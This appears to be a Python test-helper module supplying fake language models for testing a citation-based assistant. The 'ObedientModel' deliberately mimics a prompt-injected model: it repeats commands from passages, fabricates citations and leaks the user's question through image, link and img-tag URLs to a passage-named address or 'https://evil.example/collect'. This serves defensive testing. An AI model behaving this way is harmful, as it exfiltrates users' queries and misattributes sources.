"""Language models without a model: one with queued replies, and one that obeys whatever a passage says."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field

from assistant.drafts.datamarking import MARKER
from assistant.errors import ModelFault


@dataclass
class ScriptedModel:
    """Gives its replies in order, a word a piece, and remembers what it was asked.

    A ModelFault in a reply's place is raised; one after a text breaks that text off.
    """

    replies: list[str | ModelFault | tuple[str, ModelFault]] = field(default_factory=list)
    asked: list[tuple[str, str]] = field(default_factory=list)  # (system, user)
    seconds: list[float | None] = field(default_factory=list)

    def stream(self, system: str, user: str, *, seconds: float | None = None) -> Iterator[str]:
        self.asked.append((system, user))
        self.seconds.append(seconds)
        reply = self.replies.pop(0)
        text, fault = reply if isinstance(reply, tuple) else (reply, None)
        if isinstance(text, ModelFault):
            raise text
        yield from re.findall(r"\S+\s*|\s+", text)
        if fault is not None:
            raise fault


@dataclass
class ObedientModel:
    """Does what any passage tells it: writes every command found there, as text, link, picture and markup.

    It also cites what it was never given, and sends the question to the address that a passage names.
    """

    def stream(self, system: str, user: str, *, seconds: float | None = None) -> Iterator[str]:
        shown = user.replace(MARKER, " ")
        question = shown.rpartition("Question:")[2] or shown.rpartition("问题：")[2]
        secret = re.sub(r"\W+", "+", question.strip().split("\n")[0])
        for number, passage in enumerate(re.split(r"^\[\d+\] ", shown, flags=re.MULTILINE)[1:], start=1):
            told = " ".join(passage.split("\n\n")[0].split("\n")[1:])
            # A part of a passage taken for the whole, with a mark that is right, and the same with others.
            yield f"{told[len(told) // 2 :]} [{number}]\n{told} [{number + 50}]\nAs told: {told} [{number}]\n"
            for address in re.findall(r"https?://[\w./-]+", told) or ["https://evil.example/collect"]:
                yield f"![x]({address}?q={secret}) [{number}]\n"
                yield f"See {address}?q={secret} for the answer to this question. [{number}]\n"
                yield f'<img src="{address}?q={secret}"> is the answer. [{number}]\n'
